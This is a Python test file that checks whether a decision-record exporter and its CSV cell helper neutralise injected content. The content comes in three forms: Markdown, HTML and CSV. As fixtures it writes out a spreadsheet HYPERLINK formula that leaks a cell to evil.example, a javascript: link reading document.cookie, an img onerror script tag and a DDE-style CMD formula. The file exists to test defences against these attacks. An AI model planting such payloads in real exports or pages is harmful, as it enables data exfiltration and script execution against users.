"""Attacks through exports (issue 11): a spreadsheet formula or a javascript: link typed into a rationale, a
comment, a project's name or a label comes out of the decision record and CSV downloads inert."""

from __future__ import annotations

import re

import pytest
from review_helpers import approve

from core.decision import decision, record
from core.domain.textsafe import csv_cell

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
LINK = "[Open the report](javascript:alert(document.cookie))"
TAG = '<img src=x onerror="alert(1)">'


@pytest.fixture
def poisoned(session, demo, gated, failing_eval, passing_eval):
    gated.description = f"{FORMULA} {TAG}"
    session.add(gated)
    session.commit()
    approve(session, demo, gated, passing_eval)
    decision.decide(session, actor=demo["sam"], project=gated, decision="iterate", rationale=f"{FORMULA} {LINK}",
                    evaluation_id=failing_eval.id)
    return gated


def test_markdown_record_has_no_live_link_markup_or_formula(session, demo, poisoned):
    md = record.export(session, actor=demo["sam"], project=poisoned, fmt="md")
    assert re.search(r"(?<!\\)\]\(javascript:", md) is None and re.search(r"(?<!\\)\[Open", md) is None
    assert "\\[Open the report\\](javascript:alert(document.cookie))" in md  # shown as typed
    assert "<img" not in md and "&lt;img" in md
    cells = [c.strip() for line in md.splitlines() if line.startswith("|") for c in line.split(" | ")]
    assert not any(c.lstrip("| ").startswith(("=", "@")) for c in cells)
    assert "'=HYPERLINK" in md


def test_html_record_has_no_live_link_markup_or_formula(session, demo, poisoned):
    page = record.export(session, actor=demo["sam"], project=poisoned, fmt="html")
    assert "<img src=x" not in page and 'href="javascript' not in page.lower()
    assert "&#x27;=HYPERLINK(" in page and ">=HYPERLINK" not in page


@pytest.mark.parametrize(("value", "safe"), [
    ("=SUM(A1:A9)", "'=SUM(A1:A9)"), ("@cmd", "'@cmd"), ("+CMD|' /C calc'!A0", "'+CMD|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("\t=1", "'\t=1"), ("-0.25", "-0.25"), ("billing", "billing"), (None, ""),
])
def test_csv_cells_never_start_a_formula(value, safe):
    assert csv_cell(value) == safe
